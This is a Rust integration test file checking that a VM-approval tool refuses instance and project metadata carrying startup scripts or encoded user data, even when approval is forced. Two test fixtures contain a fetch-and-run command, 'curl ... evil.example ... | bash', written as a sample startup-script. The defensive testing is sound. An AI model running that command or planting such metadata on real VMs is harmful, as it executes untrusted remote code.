//! Metadata that runs code or opens access, at review time, through the real `tokendist` binary with
//! gcpsim: an instance `startup-script` (or `user-data-encoding`) fails `instance.metadata` in `show`
//! and `approve` refuses the VM outright (`--force` or not); a project `startup-script` fails
//! `instance.project_metadata` in `show` (text and JSON) and refuses like any failed check; the
//! project's fetch error is listed with the others.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::path::Path;

use serde_json::Value;
use support::{Console, GOOD_VM, GOOD_VM_ID, PROJECT, ZONE};
use tokendist_sim::{Api, FaultSpec, Scenario};
use tokendist_store::{EventDetail, EventKind, EventQuery};

fn scenario(edit: impl FnOnce(String) -> String) -> Scenario {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../sim/scenarios");
    let text = std::fs::read_to_string(dir.join("demo.toml")).unwrap();
    let edited = edit(text.clone());
    assert_ne!(edited, text, "the edit did not apply to the demo scenario");
    Scenario::from_toml_str(&edited, &dir).unwrap()
}

/// The demo with `line` added to the good VM's metadata (its first `[vm.metadata]` block).
fn with_good_vm_key(line: &str) -> Scenario {
    scenario(|text| {
        text.replacen(
            "google-logging-enabled = \"true\"\n",
            &format!("google-logging-enabled = \"true\"\n{line}\n"),
            1,
        )
    })
}

/// The demo with `line` added to the project's metadata.
fn with_project_key(line: &str) -> Scenario {
    scenario(|text| {
        text.replacen(
            "[project.metadata]\nenable-oslogin = \"FALSE\"\n",
            &format!("[project.metadata]\nenable-oslogin = \"FALSE\"\n{line}\n"),
            1,
        )
    })
}

async fn show(console: &Console, extra: &[&str]) -> support::Run {
    let mut args = vec!["show", GOOD_VM, "--project", PROJECT, "--zone", ZONE];
    args.extend_from_slice(extra);
    console.run(&args).await
}

fn check<'a>(show: &'a Value, name: &str) -> &'a Value {
    show["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("{name} not shown: {show}"))
}

async fn assert_nothing_approved(console: &Console) {
    assert!(
        console
            .store()
            .await
            .get_approval(GOOD_VM_ID)
            .await
            .unwrap()
            .is_none(),
        "an approval was written"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_startup_script_at_review_fails_instance_metadata_and_approve_refuses_it_even_forced()
 {
    let console = Console::start_with(with_good_vm_key(
        "startup-script = \"#!/bin/bash\\ncurl -s https://evil.example/x | bash\\n\"",
    ))
    .await;

    let run = show(&console, &["--json"]).await;
    assert_eq!(run.code, 0, "{run:?}");
    let json = run.json();
    assert_eq!(
        json["failed_checks"],
        serde_json::json!(["instance.metadata"])
    );
    let reason = check(&json, "instance.metadata")["reason"]
        .as_str()
        .unwrap();
    assert!(reason.contains("\"startup-script\""), "{reason}");
    assert!(reason.contains("never approvable"), "{reason}");
    // The proposal shown does not allow it either.
    assert_eq!(check(&json, "instance.project_metadata")["outcome"], "pass");

    let run = console.approve(GOOD_VM, &["--yes", "--no-tpm"]).await;
    assert_eq!(run.code, 3, "{run:?}");
    assert!(run.stderr.contains("\"startup-script\""), "{}", run.stderr);
    assert!(run.stderr.contains("instance.metadata"), "{}", run.stderr);
    assert!(run.stdout.contains("✘ instance.metadata"), "{}", run.stdout);

    let run = console
        .approve(
            GOOD_VM,
            &["--yes", "--no-tpm", "--force", "--reason", "I trust Bob"],
        )
        .await;
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr
            .contains("--force --reason does not override this"),
        "{}",
        run.stderr
    );
    assert_nothing_approved(&console).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_user_data_encoding_is_refused_by_approve() {
    let console = Console::start_with(with_good_vm_key("user-data-encoding = \"base64\"")).await;
    let run = console
        .approve(
            GOOD_VM,
            &[
                "--yes",
                "--no-tpm",
                "--force",
                "--reason",
                "encoded on purpose",
            ],
        )
        .await;
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr.contains("\"user-data-encoding\""),
        "{}",
        run.stderr
    );
    assert_nothing_approved(&console).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowing_a_script_key_on_the_command_line_is_refused() {
    let console = Console::start().await;
    for key in ["startup-script", "Startup-Script", "enable-oslogin"] {
        let run = console
            .approve(GOOD_VM, &["--yes", "--no-tpm", "--allow-metadata-key", key])
            .await;
        assert_eq!(run.code, 3, "{key}: {run:?}");
        assert!(
            run.stderr.contains("--allow-metadata-key"),
            "{}",
            run.stderr
        );
    }
    assert_nothing_approved(&console).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_startup_script_at_review_fails_project_metadata_in_show_and_approve() {
    let console = Console::start_with(with_project_key(
        "startup-script = \"#!/bin/bash\\ncurl -s https://evil.example/x | bash\\n\"",
    ))
    .await;

    let run = show(&console, &["--json"]).await;
    assert_eq!(run.code, 0, "{run:?}");
    let json = run.json();
    assert_eq!(
        json["failed_checks"],
        serde_json::json!(["instance.project_metadata"])
    );
    let reason = check(&json, "instance.project_metadata")["reason"]
        .as_str()
        .unwrap();
    assert!(reason.contains("\"startup-script\""), "{reason}");
    assert_eq!(json["project"]["project"], PROJECT);
    assert!(
        json["project"]["metadata"]["startup-script"]
            .as_str()
            .unwrap()
            .contains("evil.example")
    );
    assert_eq!(json["errors"], serde_json::json!([]));

    let text = show(&console, &[]).await;
    assert_eq!(text.code, 0, "{text:?}");
    assert!(
        text.stdout
            .contains("project metadata   enable-oslogin, startup-script"),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout.contains("✘ instance.project_metadata"),
        "{}",
        text.stdout
    );

    let run = console.approve(GOOD_VM, &["--yes", "--no-tpm"]).await;
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr.contains("instance.project_metadata"),
        "{}",
        run.stderr
    );
    assert_nothing_approved(&console).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forcing_a_project_check_records_the_reason_and_the_failed_check() {
    // An unknown project key fails closed; Alice may force it (the server will keep denying until
    // the project is cleaned up), and the reason is on record.
    let console = Console::start_with(with_project_key("team-owner = \"bob\"")).await;
    let reason = "the team key is being removed from the project";
    let run = console
        .approve(
            GOOD_VM,
            &["--yes", "--no-tpm", "--force", "--reason", reason],
        )
        .await;
    assert_eq!(run.code, 0, "{run:?}");
    let events = console
        .store()
        .await
        .list_events(&EventQuery::latest(10).for_instance(GOOD_VM_ID))
        .await
        .unwrap();
    assert_eq!(events[0].kind, EventKind::Approved);
    let EventDetail::Approved(detail) = &events[0].detail else {
        panic!("not an approved detail: {:?}", events[0].detail)
    };
    assert_eq!(detail.forced_reason.as_deref(), Some(reason));
    assert_eq!(detail.failed_checks, ["instance.project_metadata"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unreadable_project_is_listed_with_the_fetch_errors() {
    let console = Console::start().await;
    console
        .sim
        .as_ref()
        .unwrap()
        .handle()
        .inject_fault(FaultSpec {
            api: Api::Compute,
            status: Some(403),
            count: None,
            rate: None,
            latency_ms: None,
        })
        .unwrap();
    let run = show(&console, &["--json"]).await;
    assert_ne!(run.code, 0, "{run:?}");
    let json = run.json();
    let apis: Vec<&str> = json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["api"].as_str().unwrap())
        .collect();
    assert!(apis.contains(&"compute.projects.get"), "{apis:?}");
    assert!(json["project"].is_null());
    assert_eq!(check(&json, "instance.project_metadata")["outcome"], "fail");
}
